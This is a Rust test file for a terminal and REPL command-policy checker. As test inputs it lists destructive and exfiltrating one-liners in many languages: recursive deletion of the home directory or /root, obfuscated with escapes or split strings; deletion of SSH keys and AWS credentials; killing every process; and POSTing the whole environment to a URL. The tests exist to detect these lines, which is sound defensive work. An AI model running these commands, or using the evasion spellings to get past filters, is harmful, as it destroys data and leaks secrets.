use super::*;

#[test]
fn a_runner_given_what_the_line_computes_is_named() {
    for line in [
        "os.system(c)",
        "import subprocess; subprocess.run(cmd, shell=True)",
        "subprocess.run(['rm', d])",
        "require('child_process').execSync(c)",
        "cp.exec(cmd)",
        "system(cmd)",
        "system cmd",
        "os.system(f\"rm -rf {d}\")",
        "execSync(`rm -rf ${d}`)",
        "os.execute(c)",
        "io.popen(c):read('*a')",
        "exec(open('x.py').read())",
        "eval(code)",
        "new Function(body)()",
        "__import__(m).system('id')",
        "spawnSync('rm', args)",
        "shell_exec($c);",
        "system(\"rm -rf $dir\");",
    ] {
        assert!(unread(line).is_some(), "{line}");
    }
}

#[test]
fn a_runner_taken_to_call_later_is_named() {
    for line in [
        "f = os.system",
        "from os import system",
        "from subprocess import run",
        "import subprocess as sp",
        "sp = subprocess",
        "const {execSync: e} = require('child_process')",
        "const q = require('node:child_process')",
        "import * as cp from 'child_process'",
        "getattr(os, 'system')('id')",
        "getattr(os, 'sys' + 'tem')('id')",
        "s = 'sys'; getattr(__import__('os'), s + 'tem')('id')",
        "os.__dict__['system']('id')",
        "process.binding('spawn_sync')",
        "ctypes.CDLL(None).system(b'id')",
        "list(map(os.system, cmds))",
        "help(os.system); f = os.system",
    ] {
        assert!(unread(line).is_some(), "{line}");
    }
}

#[test]
fn literal_calls_and_everyday_code_are_not_named() {
    for line in [
        "os.system('ls -la')",
        "getattr(args, name)",
        "getattr(os, 'getcwd')()",
        "subprocess.run(['git', 'status'], check=True, cwd=d)",
        "require('child_process').execSync('ls', {stdio: 'inherit'})",
        "import subprocess",
        "import os",
        "print(os.getcwd())",
        "help(os.system)",
        "print(os.popen)",
        "asyncio.run(main())",
        "app.run(debug=True)",
        "pattern.exec(line)",
        "arr.map(function(x) { return x * 2 })",
        "cursor.execute(sql)",
        "df.apply(lambda x: x + 1)",
        "man system",
        "find . -exec rm {} \\;",
        "eval \"$(ssh-agent -s)\"",
        "exec zsh",
        "git commit -m 'run the system tests'",
        "os.execve('/bin/ls', ['ls'], os.environ)",
        "SELECT count(*) FROM users;",
    ] {
        assert_eq!(unread(line), None, "{line}");
    }
}

#[test]
fn the_home_directory_as_a_language_names_it_is_deleted_as_home() {
    for line in [
        "shutil.rmtree(os.path.expanduser(\"~\"))",
        "shutil.rmtree(Path.home())",
        "shutil.rmtree(str(pathlib.Path.home()))",
        "fs.rmSync(os.homedir(), {recursive: true})",
        "fs.rmSync(require('os').homedir(), {recursive: true, force: true})",
        "FileUtils.rm_rf(Dir.home)",
        "shutil.rmtree(os.environ['HOME'])",
        "fs.rm(process.env.HOME, {recursive: true}, () => {})",
    ] {
        assert!(
            repl_calls(line).contains(&"rm -rf ~".to_string()),
            "{line}: {:?}",
            repl_calls(line)
        );
    }
    assert_eq!(
        repl_calls("shutil.rmtree(Path.home() / 'build')"),
        vec!["rm -rf '~/build'".to_string()]
    );
    // A tree the line computes, or every file a listing of the home names: never unread.
    let p = crate::Policy::default();
    let verdict = |line: &str| p.evaluate_in_terminal(line, None).authorization;
    use crate::Authorization::*;
    for (line, expected) in [
        ("p = '/etc'; shutil.rmtree(p)", AllowedWithWarning),
        ("shutil.rmtree(chr(47))", AllowedWithWarning),
        (
            "[f.unlink() for f in pathlib.Path.home().rglob('*')]",
            Blocked,
        ),
        ("[os.remove(f) for f in glob.glob('/etc/*')]", Blocked),
        (
            "fs.readdirSync(os.homedir()).forEach(f => fs.unlinkSync(f))",
            Blocked,
        ),
        ("for f in os.listdir(d): os.remove(f)", AllowedWithWarning),
        ("for f in os.listdir('.'): os.remove(f)", Allowed),
        ("[p.unlink() for p in Path('.').glob('*.pyc')]", Allowed),
    ] {
        assert_eq!(verdict(line), expected, "{line}");
    }
    assert_eq!(
        repl_calls("fs.rm('/etc', {recursive: true})"),
        vec!["rm -rf /etc".to_string()]
    );
}

/// Any text, cut anywhere: the reading never panics (brackets left open, quotes at the
/// end, multi-byte characters next to punctuation).
#[test]
fn any_text_is_read_without_panicking() {
    const PARTS: &[&str] = &[
        "os.system",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        ",",
        "'",
        "\"",
        "`",
        "f\"",
        "${",
        "#{",
        "\\",
        "=",
        "import",
        " ",
        "child_process",
        "rmtree",
        "Path.home()",
        ".",
        "é",
        "ß",
        "exec",
        "$x",
        "require",
        "\n",
        ";",
    ];
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..20_000 {
        let mut line = String::new();
        for _ in 0..(seed % 12) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            line.push_str(PARTS[(seed % PARTS.len() as u64) as usize]);
        }
        let _ = unread(&line);
        let _ = repl_calls(&line);
    }
}

#[test]
fn a_kill_of_init_or_of_every_process_is_read_in_every_languages_order() {
    let p = crate::Policy::default();
    let verdict = |line: &str| p.evaluate_in_terminal(line, None).authorization;
    use crate::Authorization::*;
    for line in [
        "import os; os.kill(-1, 9)",
        "os.kill(1, signal.SIGKILL)",
        "process.kill(1)",
        "process.kill(-1, 'SIGKILL')",
        "Process.kill(9, 1)",
        "Process.kill(:KILL, -1)",
        "unlink(\"~\", recursive = TRUE)",
    ] {
        assert_eq!(verdict(line), Blocked, "{line}");
    }
    for line in [
        "os.kill(1234, 9)",
        "os.kill(pid, 1)",
        "process.kill(4242)",
        "Process.kill('TERM', 4242)",
    ] {
        assert_eq!(verdict(line), Allowed, "{line}");
    }
}

/// Brackets nested past what is read as a REPL's code are warned, not read: each call's
/// arguments were found by a scan to its closing bracket, and a line of thousands of
/// unclosed ones took seconds.
#[test]
fn brackets_nested_past_the_reading_are_warned() {
    let deep = "f(".repeat(crate::repl_tokens::MAX_NESTING + 1);
    assert!(unread(&deep).is_some_and(|why| why.contains("nest")));
    assert!(repl_calls(&deep).is_empty());
    let shallow = format!("{}1{}", "f(".repeat(8), ")".repeat(8));
    assert_eq!(unread(&shallow), None);
}

/// A file the line deletes by a path it names is judged as `rm PATH`: an SSH key is a
/// credential taken, however the language spells the home; a project's file is not.
#[test]
fn a_file_deleted_by_a_path_the_line_names_is_judged_as_rm() {
    let p = crate::Policy::default();
    let verdict = |line: &str| p.evaluate_in_terminal(line, None).authorization;
    use crate::Authorization::*;
    for line in [
        "import os; os.remove(os.path.expanduser('~/.ssh/id_rsa'))",
        "os.unlink(os.path.join(os.path.expanduser('~'), '.aws/credentials'))",
        "from pathlib import Path; Path.home().joinpath('.ssh/id_rsa').unlink()",
        "require('fs').unlinkSync(require('os').homedir() + '/.ssh/id_ed25519')",
    ] {
        assert_ne!(verdict(line), Allowed, "{line}");
    }
    for line in [
        "os.remove('notes.txt')",
        "xs.remove('a')",
        "Path('build').rmdir()",
    ] {
        assert_eq!(verdict(line), Allowed, "{line}");
    }
}

/// A string's text as the language builds it: escapes, prefixes and adjacent literals.
/// Each of these was `allowed` (`\x72m` read as a program `x72m`, `b"…"` as no call's
/// argument, `"rm -rf" " ~"` as `rm -rf`).
#[test]
fn a_command_spelled_with_escapes_prefixes_or_adjacent_strings_is_read() {
    let policy = crate::Policy::default();
    for line in [
        r#"os.system("\x72m -rf ~")"#,
        r#"os.system("\162m -rf ~")"#,
        r#"os.system("\u0072m -rf ~")"#,
        r#"execSync("\u{72}m -rf ~")"#,
        r#"system("\x{72}m -rf ~")"#,
        r#"os.system(b"rm -rf ~")"#,
        r#"os.system(rb"rm -rf ~")"#,
        r#"os.system(U"rm -rf ~")"#,
        r#"os.system("rm -rf" " ~")"#,
        r#"os.system('''rm -rf ~''')"#,
        r#"import asyncio; asyncio.run(asyncio.create_subprocess_exec("rm", "-rf", "/root"))"#,
        r#"asyncio.create_subprocess_shell("rm -rf ~")"#,
        r#"execa('rm', ['-rf', '/root'])"#,
        r#"Kernel.open("|rm -rf ~")"#,
        r#"open(my $fh, "-|", "rm -rf ~")"#,
        r#"unix("rm -rf ~")"#,
        r#"import sh; sh.rm("-rf", "/root")"#,
        r#"import pdb; pdb.run("import os; os.system('rm -rf ~')")"#,
        r#"FileUtils.remove_dir(Dir.home)"#,
        r#"os.RemoveAll("/root")"#,
    ] {
        let d = policy.evaluate_in_terminal(line, Some("/"));
        assert_eq!(d.authorization.as_str(), "blocked", "{line}: {d:?}");
    }
}

/// Runners reached by other shapes are asked about: what they run is not on the line.
#[test]
fn runners_reached_through_objects_builders_or_attributes_are_named() {
    for line in [
        r#"Runtime.getRuntime().exec(new String[]{"rm","-rf","/root"})"#,
        r#"std::process::Command::new("rm").arg("-rf").arg("/root").status()"#,
        r#"from sh import rm"#,
        r#"import sh as s"#,
        r#"from plumbum.cmd import rm"#,
        r#"from plumbum import local; local["rm"]("-rf", "/root")"#,
        r#"sh.rm("-rf", d)"#,
        r#"threading.Thread(target=shutil.rmtree, args=("/root",)).start()"#,
        r#"os.__dict__["sys" "tem"]("id")"#,
        r#"os.system.__call__("rm -rf ~")"#,
        r#"require("child_process").execSync.apply(null, ["rm -rf ~"])"#,
    ] {
        assert!(unread(line).is_some(), "{line}");
    }
    for line in [
        "import sh",
        "sh.ls('-la')",
        r#"subprocess.run(["git", "status"])"#,
        "help(shutil.rmtree)",
        r#"print(b"bytes", r"\d+", "a" "b")"#,
    ] {
        assert!(unread(line).is_none(), "{line}");
    }
}

/// More languages' runners and deleters, each `allowed` before: Node's `vm`, Perl's `qx{}`,
/// PHP's `pcntl_exec`, Scala's `.!`, Groovy's `.execute()`, Elixir's `rm_rf!`, Haskell's
/// `removeDirectoryRecursive`, Deno's `remove(…, {recursive})`, Octave's `rmdir(D, "s")`,
/// Tcl's `file delete -force`.
#[test]
fn other_languages_runners_and_deleters_are_judged() {
    let policy = crate::Policy::default();
    for line in [
        r#"vm.runInThisContext("require('child_process').execSync('rm -rf ~')")"#,
        "qx{rm -rf ~}",
        r#"pcntl_exec("/bin/rm", ["-rf", "/root"])"#,
        r#""rm -rf /root".!"#,
        r#"Process("rm -rf /root").!"#,
        r#""rm -rf /root".execute()"#,
        r#"File.rm_rf!(System.user_home())"#,
        r#"removeDirectoryRecursive "/root""#,
        r#"Deno.remove("/root", {recursive: true})"#,
        r#"rmdir("/root", "s")"#,
        "file delete -force ~",
    ] {
        let d = policy.evaluate_in_terminal(line, Some("/"));
        assert_eq!(d.authorization.as_str(), "blocked", "{line}: {d:?}");
    }
    for line in [
        r#"os.remove(os.getenv("HOME") .. "/.ssh/id_rsa")"#,
        r#"Deno.writeTextFileSync(Deno.env.get("HOME") + "/.bashrc", "x")"#,
        r#"Path("~/.bashrc").expanduser().write_text("x")"#,
        r#"system2("rm", c("-rf", d))"#,
    ] {
        let d = policy.evaluate_in_terminal(line, Some("/"));
        assert_ne!(d.authorization.as_str(), "allowed", "{line}: {d:?}");
    }
    for line in [
        r#"print("ok".upper())"#,
        "file notes.txt",
        r#"Deno.remove("tmp.txt")"#,
    ] {
        let d = policy.evaluate_in_terminal(line, Some("/"));
        assert_eq!(d.authorization.as_str(), "allowed", "{line}: {d:?}");
    }
}

/// The whole environment sent over the network from a REPL is asked about, as `env | curl
/// -d @- URL` is; one variable used, or the environment printed, is not.
#[test]
fn the_environment_sent_from_a_repl_is_asked_about() {
    let policy = crate::Policy::default();
    for line in [
        r#"urllib.request.urlopen("http://x", data=str(os.environ).encode())"#,
        r#"fetch("http://x", {method: "POST", body: JSON.stringify(process.env)})"#,
        r#"requests.post("http://x", json=dict(os.environ))"#,
    ] {
        let d = policy.evaluate_in_terminal(line, Some("/"));
        assert_eq!(
            d.authorization.as_str(),
            "allowed_with_warning",
            "{line}: {d:?}"
        );
    }
    for line in [
        r#"requests.get("http://x", headers={"k": os.environ["API_KEY"]})"#,
        "print(os.environ)",
        "fetch(process.env.API_URL)",
    ] {
        let d = policy.evaluate_in_terminal(line, Some("/"));
        assert_eq!(d.authorization.as_str(), "allowed", "{line}: {d:?}");
    }
}

/// Code handed to `exec` in a triple-quoted, raw or escaped string is read as the language
/// builds it, and a statement over several lines as one.
#[test]
fn code_strings_and_statements_over_lines_are_read_whole() {
    let policy = crate::Policy::default();
    for keys in [
        "exec(\"\"\"\rimport os\ros.system(\r'rm -rf ~')\"\"\")\r",
        "exec(r\"import os; os.system('rm -rf ~')\")\r",
        "exec(\"import os; os.system('\\x72m -rf ~')\")\r",
        "os.system(\r\"rm -rf ~\")\r",
        "subprocess.run([\r\"rm\",\r\"-rf\",\r\"/root\"])\r",
        "rm -rf \\\r~\r",
    ] {
        let d = policy.evaluate_input(keys, Some("/"));
        assert_eq!(d.authorization.as_str(), "blocked", "{keys:?}: {d:?}");
    }
    for keys in [
        "exec(\"print(1)\")\r",
        "x = [\r1,\r2]\r",
        "def f():\r    return 1\r\r",
    ] {
        let d = policy.evaluate_input(keys, Some("/"));
        assert_eq!(d.authorization.as_str(), "allowed", "{keys:?}: {d:?}");
    }
}
